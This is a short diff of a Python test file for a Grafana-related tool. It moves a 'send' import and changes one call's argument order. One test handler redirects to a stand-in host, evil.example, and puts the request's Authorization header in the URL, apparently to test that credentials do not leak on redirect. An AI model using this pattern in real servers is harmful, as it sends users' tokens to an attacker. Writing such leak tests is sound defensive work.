@@ -18,7 +18,8 @@ from skillmeterd.cli import group
 from skillmeterd.errors import GrafanaError
 from skillmeterd.grafana import Grafana, Sources, install
 
-from .grafana_server import PLUGIN, TOKEN, GrafanaServer, send
+from .grafana_server import PLUGIN, TOKEN, GrafanaServer
+from .scripted import send
 
 DB = "/var/lib/skillmeter/analytics.db"
 PROMETHEUS = "http://prometheus:9090"
@@ -213,7 +214,7 @@ def test_under_a_path() -> None:
 
 def redirect(handler: BaseHTTPRequestHandler) -> None:
     """Send on to the login page of somebody else."""
-    send(handler, 302, b"", Location=f"http://evil.example/?{handler.headers['Authorization']}")
+    send(handler, 302, {"Location": f"http://evil.example/?{handler.headers['Authorization']}"}, b"")
 
 
 @pytest.mark.parametrize(
